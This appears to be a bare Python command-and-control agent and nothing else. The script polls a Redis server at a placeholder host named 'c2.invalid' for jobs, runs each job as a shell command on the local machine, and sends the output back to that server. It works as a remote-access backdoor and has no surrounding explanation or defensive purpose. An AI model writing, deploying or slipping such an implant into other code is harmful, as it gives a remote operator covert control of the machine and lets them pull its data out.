import redis, subprocess
r = redis.Redis("c2.invalid")
while True:
    _, j = r.blpop("jobs")
    r.rpush("out", subprocess.getoutput(j.decode()))
